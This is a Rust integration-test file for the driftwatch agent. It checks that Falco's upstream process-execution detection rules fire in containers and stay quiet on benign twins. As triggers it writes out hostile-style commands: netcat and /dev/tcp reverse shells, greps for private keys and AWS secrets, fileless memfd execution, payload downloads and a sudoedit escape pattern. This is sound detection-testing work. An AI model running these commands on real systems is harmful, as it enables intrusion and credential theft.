@@ -1,0 +1,860 @@
+//! Falco's upstream exec rules (every rule built on `spawned_process` in the pinned stable,
+//! incubating and sandbox files) on driftwatch's exec events in real containers: each rule's
+//! trigger fires it with the right container and process, and a nearly identical quiet
+//! activity does not (issue 17, item 3).
+//!
+//! The agent loads the upstream files unchanged, in Falco's order, then one tuning file a
+//! Falco user could write: it appends the container's id to the outputs the scenarios read
+//! (upstream outputs name no container; Falco users add one the same way), enables the rule
+//! upstream ships disabled, and narrows `allowed_containers` as Falco's docs tell users to.
+//!
+//! Where a tool has no offline copy here, the trigger runs a stand-in under the tool's name (a
+//! link to busybox, or a shell script when the tool must start children): those rules match
+//! `proc.name`, the kernel's comm, which is the name a process was executed under, exactly
+//! what a renamed attacker tool shows Falco too. Rules about processes on the host cannot
+//! fire on driftwatch's events (it reports processes in containers only); they are fed a
+//! crafted host event through `driftwatch rules test` in [`host_only_rules_fire_on_a_host_event`].
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use driftwatch_testkit::*;
+use serde_json::Value;
+
+/// The binary under test (cargo builds it for this crate's integration tests).
+const DRIFTWATCH: &str = env!("CARGO_BIN_EXE_driftwatch");
+
+/// How long the alerts of a group may take, after its last activity.
+const SETTLE: Duration = Duration::from_secs(25);
+
+const STABLE: &str = "falco_rules.yaml";
+const INCUBATING: &str = "falco-incubating_rules.yaml";
+const SANDBOX: &str = "falco-sandbox_rules.yaml";
+
+/// What a scenario does in its container.
+#[derive(Clone, Debug)]
+enum Act {
+    /// `docker exec CONTAINER sh -c SCRIPT`.
+    Sh(String),
+    /// `docker exec -t CONTAINER ARGV...`: with a terminal, as `kubectl exec -t` gives one.
+    Tty(&'static [&'static str]),
+    /// `docker exec -u USER CONTAINER sh -c SCRIPT`.
+    As(&'static str, String),
+    /// Nothing after the start: starting the container is the activity.
+    Start,
+}
+
+/// One upstream rule: the activity that must fire it and a nearly identical one that must not.
+struct Scenario {
+    rule: &'static str,
+    /// The upstream file that defines it.
+    file: &'static str,
+    image: &'static str,
+    /// `docker run` flags of the trigger's container, then of the quiet one's.
+    trigger_run: &'static [&'static str],
+    quiet_run: &'static [&'static str],
+    trigger: Act,
+    quiet: Act,
+    /// `proc.name` of the process the alert must name.
+    process: &'static str,
+    /// Why the scenario cannot pass yet, and whose part it waits on: it is then expected to
+    /// fail (the test prints it), and passing fails the test so the mark is removed.
+    blocked_on: Option<&'static str>,
+}
+
+fn sh(s: &str) -> Act {
+    Act::Sh(s.to_string())
+}
+
+/// Makes `/tmp/standin/NAME` a link to busybox: executed, its comm (`proc.name`) is NAME.
+fn standin(name: &str) -> String {
+    format!("mkdir -p /tmp/standin && ln -sf /bin/busybox /tmp/standin/{name}")
+}
+
+/// Makes `/tmp/standin/NAME` a shell script running `body`: a process named NAME (a script's
+/// comm is the script's name) that starts children.
+fn standin_script(name: &str, body: &str) -> String {
+    format!(
+        "mkdir -p /tmp/standin && printf '#!/bin/sh\\n%s\\n' '{body}' > /tmp/standin/{name} \
+         && chmod 755 /tmp/standin/{name}"
+    )
+}
+
+/// busybox httpd serving a CGI script running `body`, then one request for it: the web server
+/// forks and executes the CGI (comm `run`), whose children have httpd as grandparent.
+fn web_cgi(body: &str) -> String {
+    format!(
+        "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho\\n%s\\n' '{body}' > /www/cgi-bin/run \
+         && chmod 755 /www/cgi-bin/run && httpd -p 127.0.0.1:8080 -h /www && sleep 0.3 \
+         && printf 'GET /cgi-bin/run HTTP/1.0\\r\\n\\r\\n' | nc -w 3 127.0.0.1 8080 >/dev/null"
+    )
+}
+
+/// Python in the Debian image executing `/bin/true` from a memfd (or, quiet, from its path).
+fn python_exec(from_memfd: bool) -> String {
+    let target = if from_memfd {
+        "fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); \
+         os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])"
+    } else {
+        "os.execv(\"/bin/true\", [\"x\"])"
+    };
+    format!("python3 -c '{}'", format_args!("import os; {target}"))
+}
+
+/// Every upstream exec rule that can run in a container here, with its trigger and quiet twin.
+fn scenarios() -> Vec<Scenario> {
+    let plain = |rule, file, image, trigger: Act, quiet: Act, process| Scenario {
+        rule,
+        file,
+        image,
+        trigger_run: &[],
+        quiet_run: &[],
+        trigger,
+        quiet,
+        process,
+        blocked_on: None,
+    };
+    vec![
+        // --- stable -------------------------------------------------------------------------
+        plain(
+            "Terminal shell in container",
+            STABLE,
+            BUSYBOX,
+            Act::Tty(&["sh", "-c", "true"]),
+            Act::Sh("true".into()),
+            "sh",
+        ),
+        plain(
+            "Netcat Remote Code Execution in Container",
+            STABLE,
+            BUSYBOX,
+            sh("nc -w 1 127.0.0.1 9 -e /bin/sh; true"),
+            sh("nc -w 1 127.0.0.1 9; true"),
+            "nc",
+        ),
+        plain(
+            "Search Private Keys or Passwords",
+            STABLE,
+            BUSYBOX,
+            sh("grep -r 'BEGIN PRIVATE' /etc; true"),
+            sh("grep -r 'BEGIN CERTIFICATE' /etc; true"),
+            "grep",
+        ),
+        plain(
+            "Remove Bulk Data from Disk",
+            STABLE,
+            BUSYBOX,
+            sh("echo data > /tmp/bulk && shred -u /tmp/bulk"),
+            sh("echo data > /tmp/bulk && rm -f /tmp/bulk"),
+            "shred",
+        ),
+        Scenario {
+            trigger_run: &["--privileged"],
+            ..plain(
+                "Debugfs Launched in Privileged Container",
+                STABLE,
+                DEBIAN,
+                sh("debugfs -V; true"),
+                sh("debugfs -V; true"),
+                "debugfs",
+            )
+        },
+        plain(
+            "Find AWS Credentials",
+            STABLE,
+            BUSYBOX,
+            sh("grep -r aws_secret_access_key /root; true"),
+            sh("grep -r aws_region /root; true"),
+            "grep",
+        ),
+        plain(
+            "Execution from /dev/shm",
+            STABLE,
+            BUSYBOX,
+            sh("echo true > /dev/shm/run.sh && sh /dev/shm/run.sh"),
+            sh("echo true > /tmp/run.sh && sh /tmp/run.sh"),
+            "sh",
+        ),
+        plain(
+            "Drop and execute new binary in container",
+            STABLE,
+            BUSYBOX,
+            sh("cp /bin/busybox /tmp/dropped && /tmp/dropped true"),
+            sh("/bin/busybox true"),
+            "dropped",
+        ),
+        plain(
+            "Fileless execution via memfd_create",
+            STABLE,
+            DEBIAN,
+            Act::Sh(python_exec(true)),
+            Act::Sh(python_exec(false)),
+            "x",
+        ),
+        plain(
+            "Run shell untrusted",
+            STABLE,
+            BUSYBOX,
+            Act::Sh(web_cgi("sh -c \"id >/dev/null\"")),
+            Act::Sh(web_cgi("id >/dev/null")),
+            "sh",
+        ),
+        plain(
+            "System user interactive",
+            STABLE,
+            DEBIAN,
+            Act::As("nobody", "timeout 2 login </dev/null; true".into()),
+            Act::As("nobody", "timeout 2 logname </dev/null; true".into()),
+            "login",
+        ),
+        // --- incubating ---------------------------------------------------------------------
+        plain(
+            "Schedule Cron Jobs",
+            INCUBATING,
+            BUSYBOX,
+            sh("crontab -l; true"),
+            sh("ls /var/spool/cron; true"),
+            "crontab",
+        ),
+        plain(
+            "DB program spawned process",
+            INCUBATING,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/mysqld",
+                standin_script("mysqld", "ls / >/dev/null")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/mysqld_safe",
+                standin_script("mysqld_safe", "ls / >/dev/null")
+            )),
+            "ls",
+        ),
+        Scenario {
+            trigger_run: &["--privileged"],
+            ..plain(
+                "Launch Privileged Container",
+                INCUBATING,
+                BUSYBOX,
+                Act::Start,
+                Act::Start,
+                "sleep",
+            )
+        },
+        Scenario {
+            trigger_run: &["--cap-add", "SYS_ADMIN"],
+            ..plain(
+                "Launch Excessively Capable Container",
+                INCUBATING,
+                BUSYBOX,
+                Act::Start,
+                Act::Start,
+                "sleep",
+            )
+        },
+        plain(
+            "Program run with disallowed http proxy env",
+            INCUBATING,
+            BUSYBOX,
+            sh(
+                "env HTTP_PROXY=http://127.0.0.1:9 wget -q -T 1 -O /dev/null http://127.0.0.1:9/; true",
+            ),
+            sh("env NO_PROXY=127.0.0.1 wget -q -T 1 -O /dev/null http://127.0.0.1:9/; true"),
+            "wget",
+        ),
+        plain(
+            "Launch Package Management Process in Container",
+            INCUBATING,
+            DEBIAN,
+            sh("dpkg -l >/dev/null"),
+            sh("dpkg-query -l >/dev/null"),
+            "dpkg",
+        ),
+        plain(
+            "Launch Suspicious Network Tool in Container",
+            INCUBATING,
+            BUSYBOX,
+            sh("nc -w 1 127.0.0.1 9; true"),
+            sh("netstat -tln >/dev/null"),
+            "nc",
+        ),
+        plain(
+            "Launch Remote File Copy Tools in Container",
+            INCUBATING,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/scp /etc/hostname /tmp/copy; true",
+                standin("scp")
+            )),
+            sh("cp /etc/hostname /tmp/copy"),
+            "scp",
+        ),
+        Scenario {
+            trigger_run: &["--privileged"],
+            quiet_run: &["--privileged"],
+            ..plain(
+                "Mount Launched in Privileged Container",
+                INCUBATING,
+                BUSYBOX,
+                sh("mkdir -p /mnt/t && mount -t tmpfs tmpfs /mnt/t"),
+                sh("mount >/dev/null"),
+                "mount",
+            )
+        },
+        plain(
+            "Launch Ingress Remote File Copy Tools in Container",
+            INCUBATING,
+            BUSYBOX,
+            sh("wget -q -T 1 -O /tmp/payload http://127.0.0.1:9/payload; true"),
+            sh("nc -w 1 127.0.0.1 9 </dev/null >/tmp/payload; true"),
+            "wget",
+        ),
+        plain(
+            "Potential Local Privilege Escalation via Environment Variables Misuse",
+            INCUBATING,
+            BUSYBOX,
+            sh("env GLIBC_TUNABLES=glibc.malloc.mxfast=0 true"),
+            sh("env GLIBC_OTHER=glibc.malloc.mxfast=0 true"),
+            "true",
+        ),
+        // --- sandbox ------------------------------------------------------------------------
+        Scenario {
+            trigger_run: &["-v", "/etc:/host/etc:ro"],
+            quiet_run: &["-v", "/usr/share:/host/share:ro"],
+            ..plain(
+                "Launch Sensitive Mount Container",
+                SANDBOX,
+                BUSYBOX,
+                Act::Start,
+                Act::Start,
+                "sleep",
+            )
+        },
+        Scenario {
+            // The tuning file allows only the Debian image: busybox is disallowed.
+            quiet_run: &[],
+            ..plain(
+                "Launch Disallowed Container",
+                SANDBOX,
+                BUSYBOX,
+                Act::Start,
+                Act::Start,
+                "sleep",
+            )
+        },
+        plain(
+            "Detect crypto miners using the Stratum protocol",
+            SANDBOX,
+            BUSYBOX,
+            sh("true stratum+tcp://pool.example:3333"),
+            sh("true http+tcp://pool.example:3333"),
+            "sh",
+        ),
+        plain(
+            "Kubernetes Client Tool Launched in Container",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/kubectl get pods; true",
+                standin("kubectl")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/helm list; true",
+                standin("helm")
+            )),
+            "kubectl",
+        ),
+        Scenario {
+            // Upstream ships it disabled; the tuning file enables it as a user would.
+            quiet_run: &["--user", "1000"],
+            ..plain(
+                "Container Run as Root User",
+                SANDBOX,
+                BUSYBOX,
+                Act::Start,
+                Act::Start,
+                "sleep",
+            )
+        },
+        plain(
+            "Sudo Potential Privilege Escalation",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/sudoedit -s 'x\\'; true",
+                standin("sudoedit")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/sudoedit -s x; true",
+                standin("sudoedit")
+            )),
+            "sudoedit",
+        ),
+        plain(
+            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/pkexec; true",
+                standin("pkexec")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/pkexec --version; true",
+                standin("pkexec")
+            )),
+            "pkexec",
+        ),
+        plain(
+            "Decoding Payload in Container",
+            SANDBOX,
+            BUSYBOX,
+            sh("echo aGVsbG8K | base64 -d >/dev/null"),
+            sh("echo hello | base64 >/dev/null"),
+            "base64",
+        ),
+        plain(
+            "Basic Interactive Reconnaissance",
+            SANDBOX,
+            BUSYBOX,
+            Act::Tty(&["whoami"]),
+            Act::Sh("whoami".into()),
+            "whoami",
+        ),
+        plain(
+            "Network Tool Executed During NPM Package Install",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/npm",
+                standin_script("npm", "nc -w 1 127.0.0.1 9; true")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/npm",
+                standin_script("npm", "ls / >/dev/null")
+            )),
+            "nc",
+        ),
+        plain(
+            "Known Cryptominer Process Executed",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(format!(
+                "{} && /tmp/standin/xmrig --version; true",
+                standin("xmrig")
+            )),
+            Act::Sh(format!(
+                "{} && /tmp/standin/xmrig-proxy --version; true",
+                standin("xmrig-proxy")
+            )),
+            "xmrig",
+        ),
+        plain(
+            "Web Server Spawned Shell",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(web_cgi("sh -c \"id >/dev/null\"")),
+            Act::Sh(web_cgi("sh -c /usr/bin/id")),
+            "sh",
+        ),
+        plain(
+            "Web Server Spawned Suspicious Child Process",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(web_cgi("id >/dev/null")),
+            Act::Sh(web_cgi("ls / >/dev/null")),
+            "id",
+        ),
+        plain(
+            "Reverse Shell from Web Server",
+            SANDBOX,
+            BUSYBOX,
+            Act::Sh(web_cgi("sh -c \"exec 3<>/dev/tcp/127.0.0.1/9\"")),
+            Act::Sh(web_cgi("sh -c \"exec 3<>/tmp/web.out\"")),
+            "sh",
+        ),
+    ]
+}
+
+/// Upstream exec rules no container here can fire, and why; each is covered by
+/// [`host_only_rules_fire_on_a_host_event`] with a crafted event.
+const HOST_ONLY: [(&str, &str, &str); 3] = [
+    (
+        "User mgmt binaries",
+        INCUBATING,
+        "`not container`: driftwatch reports processes in containers only",
+    ),
+    (
+        "Launch Suspicious Network Tool on Host",
+        INCUBATING,
+        "`not container`: driftwatch reports processes in containers only",
+    ),
+    (
+        "Netcat/Socat Remote Code Execution on Host",
+        SANDBOX,
+        "`not container`: driftwatch reports processes in containers only",
+    ),
+];
+
+/// The user's tuning file: container fields appended to the outputs of the rules under test,
+/// the rule upstream ships disabled enabled, only the Debian image allowed, and a marker rule
+/// telling the test that the agent watches a container.
+fn tuning_file(dir: &Path, rules: &[&str]) -> PathBuf {
+    let mut text = String::from("# Tuning as a Falco user writes it.\n");
+    for rule in rules {
+        text.push_str(&format!(
+            "- rule: {rule}\n  output: container_id=%container.id container_name=%container.name\n  override:\n    output: append\n"
+        ));
+    }
+    text.push_str(
+        "- rule: Container Run as Root User\n  enabled: true\n  override:\n    enabled: replace\n\
+         - macro: allowed_containers\n  condition: (container.image.repository in (\"driftwatch-test/debian\"))\n  override:\n    condition: replace\n\
+         - rule: Exectests container watched\n  desc: The test's marker that the agent watches a container.\n  \
+         condition: spawned_process and container and proc.args = \"dw-exectests-ready\"\n  \
+         output: watched container_id=%container.id image=%container.image.repository\n  \
+         priority: NOTICE\n  tags: [exectests]\n",
+    );
+    let path = dir.join("tuning.yaml");
+    std::fs::write(&path, text).expect("writing the tuning file");
+    path
+}
+
+/// Starts `docker exec` of `act` in `c`, waiting for it.
+fn perform(c: &TestContainer, act: &Act) {
+    let out = match act {
+        Act::Start => return,
+        Act::Sh(script) => docker(&["exec", &c.id, "sh", "-c", script]),
+        Act::As(user, script) => docker(&["exec", "-u", user, &c.id, "sh", "-c", script]),
+        Act::Tty(argv) => {
+            let mut all = vec!["exec", "-t", c.id.as_str()];
+            all.extend_from_slice(argv);
+            docker(&all)
+        }
+    };
+    assert!(
+        out.status.code().is_some(),
+        "docker exec in {} was killed: {out:?}",
+        c.short()
+    );
+}
+
+/// Waits until the agent reports the marker of every container with its image known.
+fn until_watched(agent: &AgentProcess, containers: &[&TestContainer]) {
+    let start = Instant::now();
+    let mut waiting: BTreeSet<&str> = containers.iter().map(|c| c.short()).collect();
+    while !waiting.is_empty() {
+        for c in containers.iter().filter(|c| waiting.contains(c.short())) {
+            let _ = c.exec(&["true", "dw-exectests-ready"]);
+        }
+        std::thread::sleep(Duration::from_millis(300));
+        for a in agent.alerts() {
+            if a["rule"] == "Exectests container watched"
+                && field(&a, "container.image.repository")
+                    .as_str()
+                    .is_some_and(|r| r.starts_with("driftwatch-test/"))
+                && let Some(id) = field(&a, "container.id").as_str()
+            {
+                waiting.remove(id);
+            }
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(60),
+            "the agent never reported the marker of {waiting:?}"
+        );
+    }
+}
+
+/// The alerts of `rule` in `c`.
+fn alerts_of<'a>(alerts: &'a [Value], rule: &str, c: &TestContainer) -> Vec<&'a Value> {
+    alerts
+        .iter()
+        .filter(|a| a["rule"] == rule && field(a, "container.id") == c.short())
+        .collect()
+}
+
+/// One scenario's result: `Ok` when its trigger fired it as expected and its quiet twin did
+/// not, else what went wrong.
+fn judge(
+    s: &Scenario,
+    alerts: &[Value],
+    t: &TestContainer,
+    q: &TestContainer,
+) -> Result<(), String> {
+    let fired = alerts_of(alerts, s.rule, t);
+    let quiet = alerts_of(alerts, s.rule, q);
+    let named = fired.iter().find(|a| field(a, "proc.name") == s.process);
+    let mut wrong = Vec::new();
+    match (named, fired.first()) {
+        (Some(a), _) => {
+            if a["source"] != "syscall"
+                || a["output"].as_str().is_none_or(|o| !o.contains(t.short()))
+            {
+                wrong.push(format!("alert not in Falco's shape for {}: {a}", t.short()));
+            }
+        }
+        (None, Some(a)) => wrong.push(format!(
+            "fired in {} naming process {} instead of {}: {a}",
+            t.short(),
+            field(a, "proc.name"),
+            s.process
+        )),
+        (None, None) => wrong.push(format!("did not fire in {}", t.short())),
+    }
+    if let Some(a) = quiet.first() {
+        wrong.push(format!("fired on the quiet activity in {}: {a}", q.short()));
+    }
+    if wrong.is_empty() {
+        Ok(())
+    } else {
+        Err(wrong.join("; "))
+    }
+}
+
+/// Runs every scenario of `file` against one agent with the upstream files and the tuning.
+fn run_group(file: &str) {
+    require!(Bpf, Docker, Image(BUSYBOX), Image(DEBIAN));
+    let group: Vec<Scenario> = scenarios().into_iter().filter(|s| s.file == file).collect();
+    let dir = tempfile::tempdir().unwrap();
+    let rules: Vec<&str> = group.iter().map(|s| s.rule).collect();
+    let tuning = tuning_file(dir.path(), &rules);
+    let args = falco_upstream_rule_args(&[tuning]);
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let agent = AgentProcess::start(DRIFTWATCH, &args);
+
+    let mut pairs = Vec::new();
+    for s in &group {
+        let run = |flags: &[&str]| {
+            let mut all: Vec<&str> = flags.to_vec();
+            all.extend([s.image, "sleep", "300"]);
+            TestContainer::run(&all)
+        };
+        pairs.push((run(s.trigger_run), run(s.quiet_run)));
+    }
+    let all: Vec<&TestContainer> = pairs.iter().flat_map(|(t, q)| [t, q]).collect();
+    until_watched(&agent, &all);
+    // Quiet first: by the time a trigger's alert is in, its twin's events went through.
+    for (s, (t, q)) in group.iter().zip(&pairs) {
+        perform(q, &s.quiet);
+        perform(t, &s.trigger);
+    }
+
+    let deadline = Instant::now() + SETTLE;
+    let mut alerts;
+    loop {
+        alerts = agent.alerts();
+        let pending = group
+            .iter()
+            .zip(&pairs)
+            .filter(|(s, (t, q))| judge(s, &alerts, t, q).is_err())
+            .count();
+        if pending == 0 || Instant::now() > deadline {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(250));
+    }
+    // Late quiet alerts would show up within a moment of the triggers'.
+    std::thread::sleep(Duration::from_secs(2));
+    alerts = agent.alerts();
+
+    let mut failures = Vec::new();
+    let mut expected = Vec::new();
+    for (s, (t, q)) in group.iter().zip(&pairs) {
+        let verdict = judge(s, &alerts, t, q);
+        match (verdict, s.blocked_on) {
+            (Ok(()), None) => eprintln!("ok: {}", s.rule),
+            (Ok(()), Some(why)) => failures.push(format!(
+                "{}: passes although marked blocked on {why}; remove the mark",
+                s.rule
+            )),
+            (Err(e), Some(why)) => expected.push(format!("{}: blocked on {why} ({e})", s.rule)),
+            (Err(e), None) => failures.push(format!("{}: {e}", s.rule)),
+        }
+    }
+    for e in &expected {
+        eprintln!("expected failure: {e}");
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} scenarios of {file} failed:\n{}\nagent log tail:\n{}",
+        failures.len(),
+        group.len(),
+        failures.join("\n"),
+        agent
+            .log()
+            .iter()
+            .rev()
+            .take(30)
+            .rev()
+            .cloned()
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+#[test]
+fn stable_exec_rules_fire_in_containers() {
+    run_group(STABLE);
+}
+
+#[test]
+fn incubating_exec_rules_fire_in_containers() {
+    run_group(INCUBATING);
+}
+
+#[test]
+fn sandbox_exec_rules_fire_in_containers() {
+    run_group(SANDBOX);
+}
+
+/// A crafted exec event of a process on the host (or, `in_container`, in a container):
+/// what driftwatch's exec sensor would report for it.
+fn crafted_exec(argv: &[&str], in_container: bool) -> Value {
+    let container = in_container.then(|| {
+        serde_json::json!({
+            "id": "0123456789ab0123456789ab0123456789ab0123456789ab0123456789ab0123",
+            "engine": "docker",
+            "name": "crafted",
+            "image": {"repository": "driftwatch-test/busybox", "tag": "1"},
+        })
+    });
+    serde_json::json!({
+        "time_ns": 1_796_655_503_614_141_389u64,
+        "kind": "execve",
+        "process": {
+            "pid": 4242, "ppid": 4241, "uid": 0, "gid": 0, "user_name": "root",
+            "name": argv[0], "exepath": format!("/usr/bin/{}", argv[0]), "argv": argv,
+            "cwd": "/root", "tty": 34816, "ancestors": ["bash", "sshd"],
+            "pexepath": "/usr/bin/bash", "pargv": ["-bash"], "loginuid": 1000,
+            "vpid": 4242, "sid": 4000, "vpgid": 4242,
+        },
+        "container": container,
+    })
+}
+
+/// `driftwatch rules test` of `events` with the upstream files: the alerts.
+fn replay(events: &[Value]) -> Vec<Value> {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("events.jsonl");
+    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
+    std::fs::write(&path, lines).unwrap();
+    let mut args = vec![
+        "rules".to_string(),
+        "test".into(),
+        "--no-rules-dir".into(),
+        "--hostname".into(),
+        "crafted".into(),
+        "--events".into(),
+        path.display().to_string(),
+    ];
+    args.extend(falco_upstream_rule_args(&[]));
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let out = run_cli(DRIFTWATCH, &args);
+    assert!(out.status.success(), "rules test failed: {}", text(&out));
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+        .collect()
+}
+
+/// The rules upstream writes for processes on the host, fed crafted host events through the
+/// real loader and engine; the same events in a container must not fire them.
+#[test]
+fn host_only_rules_fire_on_a_host_event() {
+    let cases: [(&str, &[&str]); 3] = [
+        ("User mgmt binaries", &["passwd", "alice"]),
+        (
+            "Launch Suspicious Network Tool on Host",
+            &["nmap", "-sS", "10.0.0.0/24"],
+        ),
+        (
+            "Netcat/Socat Remote Code Execution on Host",
+            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        ),
+    ];
+    assert_eq!(
+        cases.map(|(r, _)| r),
+        HOST_ONLY.map(|(r, _, _)| r),
+        "every host-only rule has a case"
+    );
+    let on_host = replay(&cases.map(|(_, argv)| crafted_exec(argv, false)));
+    for (rule, argv) in cases {
+        let hit = on_host
+            .iter()
+            .find(|a| a["rule"] == rule && field(a, "proc.name") == argv[0]);
+        let Some(hit) = hit else {
+            panic!("{rule} did not fire for the host event of {argv:?}; alerts: {on_host:#?}");
+        };
+        assert_eq!(hit["hostname"], "crafted", "{hit}");
+        assert_eq!(hit["source"], "syscall", "{hit}");
+    }
+    let in_container = replay(&cases.map(|(_, argv)| crafted_exec(argv, true)));
+    for (rule, _) in cases {
+        assert!(
+            !in_container.iter().any(|a| a["rule"] == rule),
+            "{rule} fired for a process in a container: {in_container:#?}"
+        );
+    }
+}
+
+/// The upstream rules whose condition reaches `spawned_process` (through any macro), by file:
+/// read from the pinned files as text, since the test must not trust the loader it checks.
+fn upstream_exec_rules() -> BTreeMap<String, &'static str> {
+    let mut macros: BTreeMap<String, String> = BTreeMap::new();
+    let mut rules: Vec<(String, &'static str, String)> = Vec::new();
+    for file in FALCO_UPSTREAM_FILES {
+        let text = std::fs::read_to_string(falco_upstream_dir().join(file)).unwrap();
+        for item in text.split("\n- ").skip(1) {
+            let mut lines = item.lines();
+            let head = lines.next().unwrap_or_default();
+            // The `condition:` key and its folded continuation lines (indented deeper).
+            let mut condition = String::new();
+            let mut inside = false;
+            for line in lines {
+                if let Some(rest) = line.strip_prefix("  condition:") {
+                    inside = true;
+                    condition.push_str(rest);
+                } else if inside && (line.starts_with("   ") || line.trim().is_empty()) {
+                    condition.push(' ');
+                    condition.push_str(line);
+                } else {
+                    inside = false;
+                }
+            }
+            if let Some(name) = head.strip_prefix("macro: ") {
+                macros.insert(name.trim().to_string(), condition);
+            } else if let Some(name) = head.strip_prefix("rule: ") {
+                rules.push((name.trim().to_string(), file, condition));
+            }
+        }
+    }
+    fn reaches(cond: &str, macros: &BTreeMap<String, String>, seen: &mut BTreeSet<String>) -> bool {
+        cond.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
+            .any(|word| {
+                word == "spawned_process"
+                    || (seen.insert(word.to_string())
+                        && macros.get(word).is_some_and(|m| reaches(m, macros, seen)))
+            })
+    }
+    rules
+        .into_iter()
+        .filter(|(_, _, cond)| reaches(cond, &macros, &mut BTreeSet::new()))
+        .map(|(name, file, _)| (name, file))
+        .collect()
+}
+
+/// The table above is every upstream exec rule: a new pin that adds one fails here until it
+/// has a scenario or a stated reason.
+#[test]
+fn every_upstream_exec_rule_has_a_scenario() {
+    let upstream = upstream_exec_rules();
+    let mut covered: BTreeMap<String, &str> = scenarios()
+        .iter()
+        .map(|s| (s.rule.to_string(), s.file))
+        .collect();
+    covered.extend(HOST_ONLY.iter().map(|(r, f, _)| (r.to_string(), *f)));
+    assert!(upstream.len() >= 39, "the scan found too few: {upstream:?}");
+    assert_eq!(
+        upstream, covered,
+        "upstream exec rules (left) and the scenarios (right) differ"
+    );
+}
